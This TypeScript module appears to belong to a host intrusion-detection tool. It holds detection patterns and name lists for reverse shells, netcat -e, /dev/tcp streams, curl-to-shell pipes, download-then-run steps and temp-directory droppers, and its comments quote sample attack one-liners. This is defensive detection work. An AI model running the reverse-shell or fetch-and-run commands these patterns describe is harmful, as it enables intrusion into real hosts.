// Shared vocabularies for detections: shells, temp directories, suspicious command fragments.
import { basename, str } from "../rows.js";
import { InOrder } from "../in-order.js";
import { isIpv4, isPublic } from "../net.js";
import { dynamicDnsHost, stagingHost } from "../intel/staging-hosts.js";
import type { Row, Severity } from "../types.js";
import { inTmpDir } from "../paths.js";
export { TMP_DIRS, inHiddenDir, inTmpDir } from "../paths.js";

export const SHELLS: ReadonlySet<string> = new Set(["sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "fish", "busybox"]);
export const NETCAT_LIKE: ReadonlySet<string> = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet"]);

/**
 * socat address types that are a network or socket endpoint, or a serial device (a serial-to-TCP bridge), not a
 * program, a pseudo-terminal or this process's stdio.
 */
const SOCAT_ENDPOINT = /^(?:TCP[46]?(?:-LISTEN|-CONNECT)?|UDP[46]?(?:-LISTEN|-SENDTO|-RECVFROM|-RECV|-DATAGRAM)?|UNIX(?:-LISTEN|-CONNECT|-CLIENT|-SENDTO|-RECV)?|ABSTRACT(?:-LISTEN|-CONNECT)?|OPENSSL(?:-LISTEN)?|SSL|SCTP[46]?(?:-LISTEN|-CONNECT)?|SOCKS4A?|SOCKS5|PROXY|VSOCK(?:-LISTEN|-CONNECT)?|TUN)[:,]|^(?:(?:FILE|OPEN|GOPEN):)?\/dev\/(?:tty(?:S|USB|ACM|AMA|mxc)\d+|serial\/by-(?:id|path)\/[^,\s]+)(?:,|$)/i;

/**
 * socat joining two sockets (`socat TCP-LISTEN:8443,fork TCP:10.0.0.5:443`, a Unix socket exposed on a port): a port
 * forwarder, which carries bytes and runs nothing. A shell needs an EXEC:/SYSTEM: address, a PTY or its stdio (`-`,
 * STDIO, READLINE), which this refuses. Source: socat(1), ADDRESS TYPES.
 */
export function socatForwarder(cmdline: string): boolean {
  const words = cmdline.trim().split(/\s+/);
  if (!/(?:^|\/)socat$/.test(words[0] ?? "")) return false;
  const addresses = words.slice(1).filter((w) => !/^-[a-zA-Z]/.test(w)).map((w) => w.replace(/^["']|["']$/g, ""));
  return addresses.length === 2 && addresses.every((a) => SOCAT_ENDPOINT.test(a));
}


export function isShell(nameOrPath: string): boolean {
  return SHELLS.has(basename(nameOrPath));
}

/**
 * Login shells that are shells but not in SHELLS (they are never what a process runs as a shell): bash as rbash, and
 * cPanel's jailshell (a bash in the account's virtfs jail; cPanel docs, "Jailed Shell").
 */
const RESTRICTED_LOGIN_SHELLS: ReadonlySet<string> = new Set(["rbash", "jailshell"]);

/** An interactive login shell (not nologin/false/sync). */
export function isInteractiveShell(shell: string): boolean {
  return shell !== "" && (SHELLS.has(basename(shell)) || RESTRICTED_LOGIN_SHELLS.has(basename(shell)));
}

/** The first token of a command line (the program as invoked). */
export function firstToken(cmdline: string): string {
  return cmdline.trim().split(/\s+/)[0] ?? "";
}

/**
 * A line's simple commands, each operator before the command it starts ("&&" and "||" before "&" and "|"). Not
 * command-lines.ts's splitCommands: the patterns below need the operator between two commands, and they read
 * inside quotes too (`bash -c "curl x | sh"` is a pipe to a shell), as the regular expressions they replace did.
 */
function simpleCommandsOf(line: string): Array<{ op: string | undefined; command: string }> {
  const parts = line.split(/(&&|\|\||[;&|])/);
  const out: Array<{ op: string | undefined; command: string }> = [];
  for (let i = 0; i < parts.length; i += 2) out.push({ op: parts[i - 1], command: parts[i] ?? "" });
  return out;
}

const FETCHER = /\b(?:curl|wget|fetch)\b/i;
const PYTHON_FETCHER = /\b(?:curl|wget)\b/i;
const SHELL_AT_START = /^\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\/\S*\/)?(?:ba|da|z|k)?sh\b/i;
const PYTHON_AT_START = /^\s*(?:sudo\s+)?python[0-9.]*\b/i;

/**
 * curl/wget output piped into a shell or interpreter: a command that fetches, then `|` and a shell (or python). A
 * simple command at a time: as one regular expression (each curl x the rest of its command) it was quadratic,
 * 330 ms for one 16 KiB value. A RegExp's `test`, so it sits in the pattern lists.
 */
export const PIPE_TO_SHELL: Pick<RegExp, "test"> = {
  test(text: string): boolean {
    for (const line of text.split("\n")) {
      const commands = simpleCommandsOf(line);
      for (let i = 1; i < commands.length; i++) {
        const { op, command } = commands[i] as { op: string | undefined; command: string };
        if (op !== "|") continue;
        const before = (commands[i - 1] as { command: string }).command;
        if ((SHELL_AT_START.test(command) && FETCHER.test(before)) || (PYTHON_AT_START.test(command) && PYTHON_FETCHER.test(before))) return true;
      }
    }
    return false;
  },
};

const DOWNLOADER = /\b(?:curl|wget)\b/i;
const OUTPUT_OPTION = /\s(?:-o|-O|--output)\s*\S/;
// A mode's first execute digit found once: `[0-7]*[157]` tried every split of a long run of digits (quadratic).
const RUNS_IT = /^\s*(?:chmod\s+(?:\+x|[02346]*[157][0-7]*)\b|(?:ba)?sh\s|\.\/)/i;

/**
 * Download to a file, then make it executable or run it: on one line, a curl or wget command with an output option,
 * and after it a command following `&&` or `;` that is chmod +x (or a mode with an x bit), sh, or ./. Read a simple
 * command at a time: as one regular expression (each curl x each -o x the rest of the line) it took 11 s on 16 KiB.
 */
export function downloadThenRun(command: string): boolean {
  for (const line of command.split("\n")) {
    let downloaded = false;
    for (const { op, command: part } of simpleCommandsOf(line)) {
      if (downloaded && (op === "&&" || op === ";") && RUNS_IT.test(part)) return true;
      const at = part.search(DOWNLOADER);
      if (!downloaded && at >= 0 && OUTPUT_OPTION.test(part.slice(at))) downloaded = true;
    }
  }
  return false;
}

/**
 * Host names that stay inside a site: no dot (a service name), a private suffix (RFC 6762 .local, RFC 8375
 * .home.arpa, cluster and service-discovery domains), or a split-horizon zone under the organisation's domain named
 * for it (`pki.internal.example.net`, `git.corp.example.com`).
 */
const INTERNAL_NAME = /^(?:[^.]+|.+\.(?:local|localdomain|internal|intranet|lan|corp|home\.arpa|svc|cluster\.local|consul)|(?:[^.]+\.)+(?:internal|intranet|intra|corp|lan)\.[^.]+\.[a-z]{2,})$/i;
const BARE_TARGET = /^(?:[^@\s/'"]*@)?([A-Za-z0-9.-]+)(?::\d+)?(?:\/|$)/;
const DISCARDED = /\s(?:-o|--output)\s*\/dev\/null\b|\s-O\s*\/dev\/null\b|>\s*\/dev\/null\s*$/;

const URL_SOURCE = /\b(https?|ftp):\/\/(?:[^@\s/'"]*@)?(\[[^\]\s]+\]|[^/\s:'"?#]+)/gi;

/** The scheme and host of every URL in a command (`https://get.example.com/x` -> https, get.example.com). */
export function urlSources(command: string): Array<{ scheme: string; host: string }> {
  return [...command.matchAll(URL_SOURCE)].map((m) => ({ scheme: (m[1] as string).toLowerCase(), host: (m[2] as string).replace(/^\[|\]$/g, "").toLowerCase() }));
}

/** Whether a host (name or address) is outside the site: a public address, or a name with a public-looking suffix. */
export function outsideHost(host: string): boolean {
  const h = host.replace(/^\[|\]$/g, "");
  if (isIpv4(h) || h.includes(":")) return isPublic(h);
  return h !== "" && !INTERNAL_NAME.test(h);
}

/**
 * A curl or wget that fetches from (or sends to) outside the site: the command's URLs, or its first argument when it
 * names no scheme, include an outside host, and its output is not thrown away. A health check of a local service
 * (`curl -o /dev/null https://127.0.0.1/healthz`), a reload (`curl -X POST localhost:9090/-/reload`) or a push to an
 * internal gateway is not a download; a command whose target cannot be read counts as outside.
 */
export const OUTSIDE_TRANSFER: Pick<RegExp, "test"> = {
  test(text: string): boolean {
    for (const line of text.split("\n")) {
      for (const { command } of simpleCommandsOf(line)) {
        const at = command.search(DOWNLOADER);
        if (at < 0) continue;
        const part = command.slice(at);
        if (DISCARDED.test(part)) continue;
        const hosts = urlSources(part).map((u) => u.host);
        if (hosts.length === 0) {
          const target = part.split(/\s+/).slice(1).find((a) => a !== "" && !a.startsWith("-") && !/^["']?@/.test(a));
          const bare = target === undefined ? undefined : BARE_TARGET.exec(target.replace(/^["']|["']$/g, ""))?.[1];
          if (bare === undefined || outsideHost(bare)) return true;
          continue;
        }
        if (hosts.some(outsideHost)) return true;
      }
    }
    return false;
  },
};

const INSECURE = /\s(?:-k|--insecure|--no-check-certificate)\b/;

/**
 * How much a fetch-and-run says by where the code came from: from a host inside the site (an artifact server's
 * bootstrap), medium; over verified HTTPS from a named host outside it (how vendors document installers), low;
 * undefined (no lower than the caller's own) over plain HTTP, from an address, a paste or file-drop site, a dynamic-DNS
 * name or with certificate checks off, as intruders fetch (Kinsing's `curl -s http://<ip>/d.sh | sh`, TeamTNT, 8220,
 * WatchDog's pastebin).
 */
export function fetchedFrom(command: string): { severity: Severity; why: string } | undefined {
  const sources = urlSources(command);
  if (sources.length === 0 || INSECURE.test(command)) return undefined;
  if (sources.every((s) => !outsideHost(s.host))) return { severity: "medium", why: "from a host inside the site" };
  const named = (h: string): boolean => !isIpv4(h) && !h.includes(":") && stagingHost(h) === undefined && !dynamicDnsHost(h);
  if (sources.every((s) => s.scheme === "https" && named(s.host))) return { severity: "low", why: `over HTTPS from ${sources[0]?.host ?? "a named host"} (an installer? confirm what it put on the host)` };
  return undefined;
}

/** A tool that carries a byte stream over the network: netcat and its kin, and openssl's TLS client. */
const NETWORK_PIPE_TOOL = /^\s*(?:sudo\s+)?(?:\/\S*\/)?(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|socat|telnet|openssl\s+s_client|cryptcat)\b/i;
const SHELL_IN_PIPE = /^\s*(?:exec\s+)?(?:\/\S*\/)?(?:ba|da|z|k)?sh(?:\s+-i)?\s*$/i;
/** A line without its redirections (`2>&1`, `< /tmp/f`, `2>/dev/null`), which would otherwise split its pipeline. */
// `(?:\b\d+)?`, not `\d*`: from inside a long run of digits the boundary fails at once, where `\d*` rescanned the
// rest of the run from every start (quadratic on a 512 KiB line of digits); `(?<![<>])` likewise for a run of `<`
// and `>`: a redirection starts where the run starts, not from each of its characters.
const withoutRedirections = (line: string): string => line.replace(/(?:\b\d+)?(?<![<>])[<>]+&\d+/g, " ").replace(/(?:\b\d+)?(?<![<>])[<>]+\s*[^\s|;&]+/g, " ");

/**
 * A shell wired to a network tool by a pipe, either way round (`openssl s_client -connect h:993 | /bin/bash |
 * openssl s_client ...`, `/bin/sh -i < /tmp/f | nc h 4444 > /tmp/f`): the tool holds the socket, the shell reads
 * and writes it through the pipe (PayloadsAllTheThings, Reverse Shell Cheatsheet: OpenSSL, mkfifo netcat).
 */
export const SHELL_THROUGH_NETWORK: Pick<RegExp, "test"> = {
  test(text: string): boolean {
    for (const line of text.split("\n")) {
      const commands = simpleCommandsOf(withoutRedirections(line));
      for (let i = 1; i < commands.length; i++) {
        if ((commands[i] as { op: string | undefined }).op !== "|") continue;
        const a = (commands[i - 1] as { command: string }).command;
        const b = (commands[i] as { command: string }).command;
        if ((SHELL_IN_PIPE.test(a) && NETWORK_PIPE_TOOL.test(b)) || (NETWORK_PIPE_TOOL.test(a) && SHELL_IN_PIPE.test(b))) return true;
      }
    }
    return false;
  },
};

const TEMP_PATH = /(?:^|[\s'"=;|&(>])\/(?:tmp|var\/tmp|dev\/shm)\//;
const HIDDEN_TEMP_PATH = /(?:^|[\s'"=;|&(>@])\/(?:tmp|var\/tmp|dev\/shm)\/(?:[^\s'"/]+\/){0,8}\.[^\s'"/.]/; // bounded depth: linear on hostile lengths
// `[0246]*[1357]`: the first execute digit is found once (`[0-7]*[1357]` tried every split of a run of digits).
const MAKES_EXECUTABLE = /^\s*chmod\s+(?:\+x|[0246]*[1357][0-7]*|[ugoa]*\+[rw]*x)\s/i;

/**
 * A temp directory used the way droppers use it: a program run from there (`/tmp/x`, `sh /dev/shm/y`), made executable
 * there, or a hidden name there (`/tmp/.x`). A job that writes an archive or a log to /tmp and moves it on (a backup)
 * does none of these (a second blind corpus and the backup look-alikes: "uses a temp directory" was a finding).
 */
export const TEMP_RUN_OR_HIDE: Pick<RegExp, "test"> = {
  test(text: string): boolean {
    if (!TEMP_PATH.test(text)) return false;
    if (HIDDEN_TEMP_PATH.test(text)) return true;
    for (const line of text.split("\n")) {
      for (const { command } of simpleCommandsOf(line)) {
        const words = command.trim().split(/\s+/);
        const program = (words[0] ?? "").replace(/^["']/, "");
        const runner = /^(?:(?:\/\S*\/)?(?:ba|da|z|k)?sh|(?:\/\S*\/)?(?:python[0-9.]*|perl|nohup|exec|setsid|\.))$/.test(program) ? (words[1] ?? "") : "";
        if (inTmpDir(program) || inTmpDir(runner.replace(/^["']/, "")) || (MAKES_EXECUTABLE.test(command) && TEMP_PATH.test(command))) return true;
      }
    }
    return false;
  },
};

const DEV_TCP = /\/dev\/(?:tcp|udp)\//i;
/** A /dev/tcp redirection that carries a stream: a descriptor duplicated or opened both ways, or a file sent. */
// Three tests, each linear: as one expression, `cat ... > /dev/tcp/` rescanned its segment from every `cat`, and
// `exec\s+\d*\s*` every split of a run of blanks (quadratic; a ReDoS audit).
const DEV_TCP_DUPLICATES = />&|&>|<>|\d>&\d|<&\s*\d|\bexec\s+(?:\d+\s*)?[<>]|(?<!\|)\|(?!\|)/;
const FILE_TO_DEV_TCP = new InOrder(/[|;&]/, [/\b(?:cat|tar|base64|gzip|dd)\b/, />\s*\/dev\/(?:tcp|udp)\//]);
const SHELL_FROM_DEV_TCP = new InOrder(/[|;&'"]/, [/\b(?:ba|da|z|k)?sh\s/, /<\s*\/dev\/(?:tcp|udp)\//]);
const DEV_TCP_CARRIES: Pick<RegExp, "test"> = { test: (line) => DEV_TCP_DUPLICATES.test(line) || FILE_TO_DEV_TCP.test(line) || SHELL_FROM_DEV_TCP.test(line) };

/**
 * bash's /dev/tcp carrying a shell or data: `bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p`, `cat f > /dev/tcp/...`,
 * a pipe. One line at a time.
 */
export const DEV_TCP_STREAM: Pick<RegExp, "test"> = {
  test(text: string): boolean {
    return text.split("\n").some((line) => DEV_TCP.test(line) && DEV_TCP_CARRIES.test(line));
  },
};

const DEV_TCP_TARGET = /\/dev\/(?:tcp|udp)\/([^/\s'"]+)\//gi;

/**
 * /dev/tcp opened and nothing carried, to a host outside the site: a beacon, or a port check of something outside
 * (weak). The same to hosts inside the site (`echo > /dev/tcp/db/5432`, `</dev/tcp/10.0.0.5/22` in a monitoring job) is
 * the bash idiom for "is the port open" (Nagios, health checks), no signal.
 */
export const DEV_TCP_PROBE: Pick<RegExp, "test"> = {
  test(text: string): boolean {
    if (!DEV_TCP.test(text) || DEV_TCP_STREAM.test(text)) return false;
    const targets = [...text.matchAll(DEV_TCP_TARGET)].map((m) => m[1] as string);
    return targets.length === 0 || targets.some(outsideHost);
  },
};

export interface CommandSignal {
  why: string;
  strong: boolean;
}

/** netcat, then -e (a bundle holding e) later in its line; parts in order, as one pattern it was quadratic. */
export const NETCAT_EXEC = new InOrder(/\n/, [/\b(?:nc|ncat|netcat)\b/i, /\s-[a-z]*e\s/i]);

const TEMP_RUN_WHY = "runs something from a temp directory or hides it there";
const OUTSIDE_TRANSFER_WHY = "fetches from or sends to an outside address with curl/wget";
/** The weak signals of a job that fetches a script and runs it: weighed by where it fetches from (fetchedFrom). */
export const FETCH_AND_RUN_SIGNALS: ReadonlySet<string> = new Set([TEMP_RUN_WHY, OUTSIDE_TRANSFER_WHY]);

const COMMAND_SIGNALS: ReadonlyArray<{ re: Pick<RegExp, "test">; why: string; strong: boolean }> = [
  { re: PIPE_TO_SHELL, why: "pipes a download into a shell", strong: true },
  { re: DEV_TCP_STREAM, why: "connects a shell's input or output to a /dev/tcp socket", strong: true },
  { re: DEV_TCP_PROBE, why: "opens a /dev/tcp socket to an outside host", strong: false },
  { re: /\bbase64\s+(?:-d|--decode)\b|\bbase64\s+-di?\b|frombase64|b64decode/i, why: "decodes base64", strong: true },
  { re: NETCAT_EXEC, why: "runs netcat with -e", strong: true },
  { re: SHELL_THROUGH_NETWORK, why: "pipes a shell through a network tool (a reverse shell)", strong: true },
  { re: TEMP_RUN_OR_HIDE, why: TEMP_RUN_WHY, strong: false },
  { re: OUTSIDE_TRANSFER, why: OUTSIDE_TRANSFER_WHY, strong: false },
  { re: /\bpython[0-9.]*\s+-c\b|\bperl\s+-e\b/i, why: "runs inline interpreter code", strong: false },
];

/** Which suspicious fragments a cron line, unit ExecStart or command contains. */
export function commandSignals(command: string): CommandSignal[] {
  return COMMAND_SIGNALS.filter((s) => s.re.test(command)).map((s) => ({ why: s.why, strong: s.strong }));
}

/**
 * LiME, the memory acquisition module, loaded as its documentation says: `insmod lime*.ko path=<file or tcp:port>
 * format=<lime|raw|padded>` (github.com/504ensicsLabs/LiME, README "Usage"). An incident responder's capture, or
 * someone reading the host's memory: an observation to see, not an implant.
 */
export function limeInvocation(command: string): boolean {
  return /\binsmod\s+(?:\S*\/)?lime(?:-[\w.+~-]+)?\.ko(?:\s|$)/.test(command) && /\bpath=\S+/.test(command) && /\bformat=(?:lime|raw|padded)\b/.test(command);
}

/** A live insmod loading LiME as root, from kmod's own program (a command line anyone may write is not enough). */
export function limeLoader(proc: Row): boolean {
  return str(proc, "uid") === "0" && /^\/(?:usr\/)?s?bin\/(?:kmod|insmod)$/.test(str(proc, "path")) && limeInvocation(str(proc, "cmdline"));
}
